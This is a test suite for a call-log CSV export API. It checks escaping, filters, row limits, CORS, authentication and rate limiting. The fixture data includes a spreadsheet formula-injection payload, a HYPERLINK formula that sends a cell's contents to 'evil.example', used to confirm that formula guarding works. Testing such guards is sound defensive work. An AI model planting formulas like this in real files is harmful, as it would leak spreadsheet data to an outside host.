import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAssistant } from "../../../test/fixtures/assistants.ts";
import { telephonyFixtures, uniqueUsNumber } from "../../../test/fixtures/telephony.ts";
import { startTestApp, type TestAccount, type TestApp } from "../../../test/support/test-app.ts";
import type { Assistant, Call, Campaign } from "../../generated/prisma/client.ts";
import { CALL_EXPORT_COLUMNS, csvCell } from "./call-export.ts";

let t: TestApp;
let owner: TestAccount;
let other: TestAccount;
let sales: Assistant;
let support: Assistant;
let campaign: Campaign;
let othersAssistant: Assistant;
let tricky: Call;
let plain: Call;
let web: Call;
const customer = uniqueUsNumber();

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += char;
  }
  expect(cell).toBe("");
  return rows;
}

const exportCsv = (query = "", token: string | null = owner.apiKey, init: RequestInit = {}) =>
  fetch(`${t.url}/exports/calls.csv${query}`, {
    ...init,
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });

async function rowsOf(query = "", token: string = owner.apiKey) {
  const response = await exportCsv(query, token);
  expect(response.status).toBe(200);
  const [header, ...rows] = parseCsv(await response.text());
  expect(header).toEqual([...CALL_EXPORT_COLUMNS]);
  return rows.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i]])));
}

beforeAll(async () => {
  t = await startTestApp();
  owner = await t.createAccount();
  other = await t.createAccount();
  const fixtures = telephonyFixtures(t);
  const number = await fixtures.addNumber(owner);
  sales = await createAssistant(t, owner, { name: "Sales", type: "outbound", phoneNumberId: number.id });
  support = await createAssistant(t, owner, { name: "Support", phoneNumberId: number.id });
  campaign = await fixtures.createCampaign(owner, { name: "Renewals", assistantId: sales.id });
  othersAssistant = await createAssistant(t, other, { name: "Not yours" });
  const at = (call: Call, iso: string) =>
    t.app.db.prisma.call.update({ where: { id: call.id }, data: { createdAt: new Date(iso) } });
  plain = await fixtures.startCall(owner, {
    assistantId: sales.id,
    type: "outbound",
    campaignId: campaign.id,
    clientPhoneNumber: customer,
  });
  await at(plain, "2026-03-10T12:00:00Z");
  tricky = await fixtures.startCall(owner, {
    assistantId: support.id,
    type: "inbound",
    clientPhoneNumber: uniqueUsNumber(),
  });
  // Names are copies taken when the call started: what a spreadsheet must not misread.
  tricky = await t.app.db.prisma.call.update({
    where: { id: tricky.id },
    data: {
      createdAt: new Date("2026-03-11T12:00:00Z"),
      assistantName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      campaignName: 'Spring, "big" push\nline two',
      endReason: "@SUM(1+1)",
      answeredBy: "-2+3",
    },
  });
  web = await fixtures.startCall(owner, { assistantId: support.id, type: "web" });
  await at(web, "2026-03-12T12:00:00Z");
  await fixtures.startCall(other, { assistantId: othersAssistant.id, type: "web" });
});
afterAll(() => t?.close());

describe("csvCell", () => {
  it("quotes commas, quotes and line breaks and guards formulas, leaving plain numbers alone", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("one\ntwo")).toBe('"one\ntwo"');
    expect(csvCell("one\r\ntwo")).toBe('"one\r\ntwo"');
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell("+cmd")).toBe("'+cmd");
    expect(csvCell("-cmd")).toBe("'-cmd");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell("+14155550123")).toBe("+14155550123");
    expect(csvCell("-1.5")).toBe("-1.5");
    expect(csvCell(null)).toBe("");
    expect(csvCell(0)).toBe("0");
  });
});

describe("GET /exports/calls.csv", () => {
  it("exports the account's calls newest first, with every column, escaped and formula-safe", async () => {
    const response = await exportCsv();
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="calls-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    expect(response.headers.get("x-row-limit")).toBe("10000");
    // Read to its end: an export holds the account's one place until then.
    await response.text();
    const rows = await rowsOf();
    // Another account's call is not among them.
    expect(rows.map((row) => Number(row.id))).toEqual([web.id, tricky.id, plain.id]);
    expect(rows[1]).toMatchObject({
      type: "inbound",
      status: "initiated",
      assistant_id: String(support.id),
      assistant_name: `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      campaign_id: "",
      campaign_name: 'Spring, "big" push\nline two',
      end_reason: "'@SUM(1+1)",
      answered_by: "'-2+3",
      created_at: "2026-03-11T12:00:00.000Z",
    });
    expect(rows[2]).toMatchObject({
      type: "outbound",
      assistant_name: "Sales",
      campaign_id: String(campaign.id),
      campaign_name: "Renewals",
      customer_number: customer,
      duration_seconds: "0",
      total_cost: expect.stringMatching(/^\d+\.\d{4}$/),
    });
  });

  it("exports only what the filters keep", async () => {
    const ids = async (query: string) => (await rowsOf(query)).map((row) => Number(row.id));
    expect(await ids(`?assistantId=${support.id}`)).toEqual([web.id, tricky.id]);
    expect(await ids(`?campaignId=${campaign.id}`)).toEqual([plain.id]);
    expect(await ids("?type=web")).toEqual([web.id]);
    expect(await ids(`?phoneNumber=${encodeURIComponent(customer)}`)).toEqual([plain.id]);
    expect(await ids("?dateFrom=2026-03-11&dateTo=2026-03-11")).toEqual([tricky.id]);
    expect(await ids("?status=initiated&type=outbound")).toEqual([plain.id]);
    expect(await ids("?status=completed")).toEqual([]);
  });

  it("stops at the row limit, reading past a batch boundary in the list's order", async () => {
    expect((await rowsOf("?limit=2")).map((row) => Number(row.id))).toEqual([web.id, tricky.id]);
    const one = await exportCsv("?limit=1");
    expect(one.headers.get("x-row-limit")).toBe("1");
    await one.text();
    const bad = await exportCsv("?limit=100001");
    expect(bad.status).toBe(422);
    expect(await bad.json()).toEqual({
      message: "The limit field must not be greater than 100000.",
      errors: { limit: ["The limit field must not be greater than 100000."] },
    });
    expect((await exportCsv("?limit=0")).status).toBe(422);
  });

  it("may be asked from any origin (the credential is a header, never a cookie), as a recording may", async () => {
    const preflight = await fetch(`${t.url}/exports/calls.csv`, { method: "OPTIONS" });
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get("access-control-allow-origin")).toBe("*");
    expect(preflight.headers.get("access-control-allow-headers")).toBe("Authorization");
    const response = await exportCsv();
    expect(response.headers.get("access-control-allow-origin")).toBe("*");
    expect(response.headers.get("access-control-expose-headers")).toBe(
      "Content-Disposition, X-Row-Limit, Retry-After",
    );
    await response.text();
    expect((await exportCsv("", null)).headers.get("access-control-allow-origin")).toBe("*");
    const recording = await fetch(`${t.url}/recordings/${plain.id}.wav`, { method: "OPTIONS" });
    expect(recording.status).toBe(204);
    expect(recording.headers.get("access-control-allow-origin")).toBe("*");
    expect(recording.headers.get("access-control-allow-headers")).toBe("Authorization, Range");
    const missing = await fetch(`${t.url}/recordings/${plain.id}.wav`, {
      headers: { authorization: `Bearer ${owner.apiKey}` },
    });
    expect(missing.status).toBe(404);
    expect(missing.headers.get("access-control-allow-origin")).toBe("*");
  });

  it("answers with the session token of the console too", async () => {
    const { data } = await t.gql<{ login: { token: string } }>(
      "mutation($email: String!, $password: String!) { login(input: { email: $email, password: $password }) { token } }",
      { email: owner.email, password: owner.password },
    );
    expect((await rowsOf("", data!.login.token)).length).toBe(3);
  });

  it("refuses without credentials, hides other accounts' ids and names bad filters", async () => {
    const anonymous = await exportCsv("", null);
    expect(anonymous.status).toBe(401);
    expect(anonymous.headers.get("www-authenticate")).toBe("Bearer");
    expect((await exportCsv("", "not-a-key")).status).toBe(401);
    const foreign = await exportCsv(`?assistantId=${othersAssistant.id}`);
    expect(foreign.status).toBe(404);
    expect(await foreign.json()).toEqual({ message: expect.stringMatching(/Assistant/) });
    const badDate = await exportCsv("?dateFrom=2026-02-30");
    expect(badDate.status).toBe(422);
    expect(((await badDate.json()) as { errors: Record<string, string[]> }).errors).toEqual({
      dateFrom: ["The date from field must be a date written YYYY-MM-DD."],
    });
    expect((await exportCsv("?assistantId=abc")).status).toBe(422);
    expect((await exportCsv("?status=nope")).status).toBe(422);
    expect((await exportCsv("", owner.apiKey, { method: "POST" })).status).toBe(405);
  });

  it("streams more rows than one batch", async () => {
    const many = await t.createAccount();
    const assistant = await createAssistant(t, many, { name: "Bulk" });
    const base = new Date("2026-01-01T00:00:00Z").getTime();
    // Same second for pairs of calls: the keyset must break ties by id, neither skipping nor repeating.
    await t.app.db.prisma.call.createMany({
      data: Array.from({ length: 1203 }, (_, i) => ({
        accountId: many.accountId,
        assistantId: assistant.id,
        assistantName: "Bulk",
        type: "web" as const,
        createdAt: new Date(base + Math.floor(i / 2) * 1000),
      })),
    });
    const rows = await rowsOf("?limit=1201", many.apiKey);
    expect(rows).toHaveLength(1201);
    const ids = rows.map((row) => Number(row.id));
    expect(new Set(ids).size).toBe(1201);
    const created = rows.map((row) => row.created_at!);
    expect([...created].sort().reverse()).toEqual(created);
    expect(await rowsOf("", many.apiKey)).toHaveLength(1203);
  });

  it("streams one export per account at a time: another answers 429 with Retry-After until it ends", async () => {
    // In process, a body is read only as it is asked for: the first export stays open as long as wanted.
    const ask = (token: string) =>
      t.app.handle(
        new Request("http://voxgate.test/exports/calls.csv", {
          headers: { authorization: `Bearer ${token}` },
        }),
      );
    const first = await ask(owner.apiKey);
    expect(first.status).toBe(200);
    const refused = await ask(owner.apiKey);
    expect(refused.status).toBe(429);
    expect(refused.headers.get("retry-after")).toBe("5");
    expect(refused.headers.get("access-control-expose-headers")).toContain("Retry-After");
    expect(await refused.json()).toEqual({
      code: "RATE_LIMITED",
      message:
        "An export of this account's calls is already running: at most 1 at a time. Try again when it has finished.",
    });
    const others = await ask(other.apiKey);
    expect(others.status).toBe(200);
    await others.text();
    await first.text();
    const next = await ask(owner.apiKey);
    expect(next.status).toBe(200);
    // A client that gives up frees the place too.
    await next.body!.cancel();
    const afterCancel = await ask(owner.apiKey);
    expect(afterCancel.status).toBe(200);
    expect(parseCsv(await afterCancel.text())[0]).toEqual([...CALL_EXPORT_COLUMNS]);
    // So do a HEAD and a refused filter.
    expect((await exportCsv("", owner.apiKey, { method: "HEAD" })).status).toBe(200);
    expect((await exportCsv("?status=bogus")).status).toBe(422);
    expect((await rowsOf()).length).toBe(3);
  });
});
